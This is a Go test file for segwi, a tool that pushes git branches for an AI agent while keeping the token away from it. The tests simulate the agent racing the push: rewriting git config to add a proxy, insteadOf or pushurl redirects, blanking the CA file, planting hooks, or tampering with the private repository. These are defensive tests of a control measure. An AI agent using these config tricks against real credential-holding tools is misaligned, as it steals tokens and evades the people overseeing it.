package push

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/segwi/segwi/internal/testing/gitserver"
)

// rewriteLoop replaces the file at path, atomically (write then rename, as an attacker
// would, so git never reads half a file), with clean and evil in turn, about every
// millisecond, until the returned stop is called; stop returns how many times evil was
// written.
func rewriteLoop(t *testing.T, path, clean, evil string) (stop func() int) {
	t.Helper()
	done := make(chan struct{})
	finished := make(chan int)
	go func() {
		evils := 0
		tick := time.NewTicker(time.Millisecond)
		defer tick.Stop()
		for i := 0; ; i++ {
			content := clean
			if i%2 == 1 {
				content = evil
			}
			tmp := fmt.Sprintf("%s.rewrite%d", path, i%2)
			if err := os.WriteFile(tmp, []byte(content), 0o644); err == nil && os.Rename(tmp, path) == nil && content == evil {
				evils++
			}
			select {
			case <-done:
				os.WriteFile(path, []byte(clean), 0o644)
				finished <- evils
				return
			case <-tick.C:
			}
		}
	}()
	var once sync.Once
	var n int
	stop = func() int {
		once.Do(func() { close(done); n = <-finished })
		return n
	}
	t.Cleanup(func() { stop() })
	return stop
}

// The attack of issue 10: a process the run left behind rewrites git config every few
// milliseconds, alternating a clean file and one that names its proxy. segwi checked the
// config, read the token and started git push, which read the config again: the proxy got
// x-access-token:TOKEN in 16 of 40 pushes. The agent can write the person's ~/.gitconfig as
// well as the checkout's .git/config.
func TestARewrittenGitConfigNeverSendsTheTokenThroughAProxy(t *testing.T) {
	tests := []struct {
		name   string
		pushes int
		file   func(f *fixture) string
	}{
		{"the checkout's .git/config", 40, func(f *fixture) string { return filepath.Join(f.checkout, ".git", "config") }},
		{"the person's ~/.gitconfig", 20, func(f *fixture) string { return filepath.Join(f.home, ".gitconfig") }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFixture(t)
			proxy := gitserver.NewProxy(t)
			path := tt.file(f)
			clean, _ := os.ReadFile(path)
			evil := string(clean) + "[http]\n\tproxy = " + proxy.URL + "\n"
			stop := rewriteLoop(t, path, string(clean), evil)

			outcomes := map[Outcome]int{}
			var lastErr error
			for i := 0; i < tt.pushes; i++ {
				var calls int
				a, err := Push(context.Background(), f.request(giveToken(testToken, &calls), new([]Attempt)))
				f.captureAttempt(a, err)
				outcomes[a.Outcome]++
				var r *RefusedError
				if err != nil && !errors.As(err, &r) {
					lastErr = err
				}
			}
			evils := stop()
			requests, credentials := proxy.Seen()
			withCredentials := len(credentials)
			t.Logf("%d pushes while %s was rewritten (%d times with the proxy): %d pushed, %d refused, %d failed; the proxy saw %d requests, %d with credentials",
				tt.pushes, tt.name, evils, outcomes[Pushed], outcomes[Refused], outcomes[Failed], requests, withCredentials)
			if evils == 0 {
				t.Fatal("the rewriter never wrote the proxy, so nothing was tested")
			}
			if withCredentials > 0 {
				t.Errorf("the agent's proxy received the token %d times in %d pushes", withCredentials, tt.pushes)
			}
			if requests > 0 {
				t.Errorf("the agent's proxy saw %d requests; want none: the push must not read config the agent writes", requests)
			}
			if outcomes[Pushed] != tt.pushes {
				t.Errorf("%d of %d pushes succeeded; want all, since the push reads none of the rewritten config (last error: %v)", outcomes[Pushed], tt.pushes, lastErr)
			}
			if !strings.Contains(f.bareHas("segwi/feature"), f.run(f.checkout, "rev-parse", "HEAD")) {
				t.Error("the served repository does not have the branch")
			}
		})
	}
}

// pushWithHook pushes with the right token through a git binary that runs the shell script
// hook right before `git push`, that is after segwi's checks, in the environment segwi
// gives git push: what a process racing the push could do at the worst moment. It fails
// the test when the hook did not run.
func (f *fixture) pushWithHook(hook string) (Attempt, error) {
	f.t.Helper()
	dir := f.t.TempDir()
	marker := filepath.Join(dir, "hook-ran")
	hookPath := filepath.Join(dir, "hook.sh")
	if err := os.WriteFile(hookPath, []byte("set -e\n"+hook+"\n: > '"+marker+"'\n"), 0o644); err != nil {
		f.t.Fatal(err)
	}
	var calls int
	req := f.request(giveToken(testToken, &calls), new([]Attempt))
	req.Git = filepath.Join(dir, "git")
	script := "#!/bin/sh\nfor a in \"$@\"; do if [ \"$a\" = push ]; then sh '" + hookPath + "' || exit 97; break; fi; done\nexec '" + f.git + "' \"$@\"\n"
	if err := os.WriteFile(req.Git, []byte(script), 0o755); err != nil {
		f.t.Fatal(err)
	}
	a, err := Push(context.Background(), req)
	f.captureAttempt(a, err)
	if _, err := os.Stat(marker); err != nil {
		f.t.Fatalf("the hook did not run before git push, so nothing was tested (push: %v: %s)", err, a.Message)
	}
	return a, err
}

// What the agent could change between segwi's checks and git push. None of it may send
// the token elsewhere, change what is pushed, or run a program of the agent's: the push
// reads no configuration but its own.
func TestChangesAfterTheCheckDoNotReachThePush(t *testing.T) {
	tests := []struct {
		name  string
		setup func(f *fixture, proxy string) // before the push, seen by the checks
		hook  func(f *fixture, proxy string) string
	}{
		{
			name: "a proxy written into the checkout's .git/config",
			hook: func(f *fixture, proxy string) string {
				return "git config --file '" + f.checkout + "/.git/config' http.proxy " + proxy
			},
		},
		{
			name: "a proxy for the remote (remote.origin.proxy)",
			hook: func(f *fixture, proxy string) string {
				return "git config --file '" + f.checkout + "/.git/config' remote.origin.proxy " + proxy
			},
		},
		{
			name: "a proxy and CA written into the person's ~/.gitconfig",
			hook: func(f *fixture, proxy string) string {
				g := "git config --file '" + f.home + "/.gitconfig' "
				return g + "http.proxy " + proxy + "\n" + g + "http.sslCAInfo /dev/null"
			},
		},
		{
			name: "a proxy written into a file the checkout's config includes",
			setup: func(f *fixture, _ string) {
				os.WriteFile(filepath.Join(f.home, "extra.conf"), nil, 0o644)
				f.run(f.checkout, "config", "include.path", filepath.Join(f.home, "extra.conf"))
			},
			hook: func(f *fixture, proxy string) string {
				return "git config --file '" + f.home + "/extra.conf' http.proxy " + proxy
			},
		},
		{
			name: "url.insteadOf sending the remote's URL to another server",
			hook: func(f *fixture, proxy string) string {
				return "git config --file '" + f.checkout + "/.git/config' url." + proxy + "/repo.git.insteadOf " + f.url
			},
		},
		{
			name: "url.pushInsteadOf sending the remote's URL to another server",
			hook: func(f *fixture, proxy string) string {
				return "git config --file '" + f.checkout + "/.git/config' url." + proxy + "/repo.git.pushInsteadOf " + f.url
			},
		},
		{
			name: "a push URL added to the remote",
			hook: func(f *fixture, proxy string) string {
				return "git config --file '" + f.checkout + "/.git/config' remote.origin.pushurl " + proxy + "/repo.git"
			},
		},
		{
			name: "a new commit on the branch",
			hook: func(f *fixture, _ string) string {
				return "cd '" + f.checkout + "' && unset GIT_DIR && GIT_CONFIG_GLOBAL=/dev/null git -c user.name=A -c user.email=a@example.invalid commit --quiet --allow-empty -m 'after the check'"
			},
		},
		{
			name: "hooks in the checkout and core.hooksPath in its config",
			setup: func(f *fixture, _ string) {
				for _, dir := range []string{filepath.Join(f.checkout, ".git", "hooks"), filepath.Join(f.home, "agent-hooks")} {
					os.MkdirAll(dir, 0o755)
					for _, h := range []string{"pre-push", "reference-transaction", "post-update", "push-to-checkout"} {
						body := "#!/bin/sh\necho " + h + " >> '" + filepath.Join(f.home, "hooks-ran") + "'\n"
						if err := os.WriteFile(filepath.Join(dir, h), []byte(body), 0o755); err != nil {
							f.t.Fatal(err)
						}
					}
				}
			},
			hook: func(f *fixture, _ string) string {
				return "git config --file '" + f.checkout + "/.git/config' core.hooksPath '" + f.home + "/agent-hooks'"
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFixture(t)
			proxy := gitserver.NewProxy(t)
			if tt.setup != nil {
				tt.setup(f, proxy.URL)
			}
			checked := f.run(f.checkout, "rev-parse", "HEAD")
			a, err := f.pushWithHook(tt.hook(f, proxy.URL))
			if err != nil || a.Outcome != Pushed {
				t.Errorf("Push = %v (%s: %s), want pushed", err, a.Outcome, a.Message)
			}
			if got := f.bareHas("segwi/feature"); got != checked {
				t.Errorf("the served repository has segwi/feature at %q, want the commit the checks saw, %s", got, checked)
			}
			if requests, credentials := proxy.Seen(); requests > 0 {
				t.Errorf("the agent's server saw %d requests, with credentials %q; want none", requests, credentials)
			}
			if b, err := os.ReadFile(filepath.Join(f.home, "hooks-ran")); err == nil {
				t.Errorf("hooks of the checkout ran: %s", b)
			}
		})
	}
}

// The private repository lives in a temp folder that a program running as the person can
// find and write too. Whatever it changes there before git asks for the token, segwi sees,
// and keeps the token.
func TestAChangedPrivateRepositoryGetsNoToken(t *testing.T) {
	tests := []struct {
		name string
		hook func(f *fixture, proxy string) string
	}{
		{"a proxy written into its config", func(_ *fixture, proxy string) string {
			return `git config --file "$GIT_DIR/config" http.proxy ` + proxy
		}},
		{"a config naming a proxy renamed into place", func(_ *fixture, proxy string) string {
			return `printf '[http]\n\tproxy = %s\n' ` + proxy + ` > "$GIT_DIR/c2" && mv "$GIT_DIR/c2" "$GIT_DIR/config"`
		}},
		{"a commondir pointing git at the checkout's config, which names a proxy", func(f *fixture, proxy string) string {
			return "git config --file '" + f.checkout + "/.git/config' http.proxy " + proxy + "\necho '" + f.checkout + `/.git' > "$GIT_DIR/commondir"`
		}},
		{"a .netrc added to git's folder", func(_ *fixture, _ string) string {
			return `printf 'machine 127.0.0.1 login a password b\n' > "$GIT_DIR/.netrc"`
		}},
		{"a file replaced in a folder of git's folder", func(_ *fixture, _ string) string {
			return `printf 'ref: refs/heads/other\n' > "$GIT_DIR/h2" && mv "$GIT_DIR/h2" "$GIT_DIR/refs/HEAD"`
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFixture(t)
			proxy := gitserver.NewProxy(t)
			a, err := f.pushWithHook(tt.hook(f, proxy.URL))
			if err == nil || a.Outcome != Failed || !strings.Contains(a.Message, "another program changed the private repository segwi made for this push") {
				t.Errorf("Push = %v (%s: %s), want a failure saying the private repository was changed", err, a.Outcome, a.Message)
			}
			if _, credentials := proxy.Seen(); len(credentials) > 0 {
				t.Errorf("the agent's proxy received credentials %d times", len(credentials))
			}
			if got := f.bareHas("segwi/feature"); got != "" {
				t.Errorf("the served repository has segwi/feature at %s", got)
			}
		})
	}
}

// Proxies and certificate authorities a person sets in the environment segwi runs in (which
// the agent cannot change for a segwi already running) still apply to the push.
func TestThePersonsProxyFromTheEnvironmentIsUsed(t *testing.T) {
	f := newFixture(t)
	proxy := gitserver.NewProxy(t)
	var calls int
	req := f.request(giveToken(testToken, &calls), new([]Attempt))
	req.Env = append(append([]string{}, f.env...), "http_proxy="+proxy.URL)
	a, err := Push(context.Background(), req)
	f.captureAttempt(a, err)
	if err != nil {
		t.Fatalf("Push through the person's proxy: %v\ngit said: %s", err, a.GitOutput)
	}
	if requests, _ := proxy.Seen(); requests == 0 {
		t.Error("the proxy named by http_proxy saw no request")
	}
	if got, want := f.bareHas("segwi/feature"), f.run(f.checkout, "rev-parse", "HEAD"); got != want {
		t.Errorf("the served repository has segwi/feature at %q, want %q", got, want)
	}
}
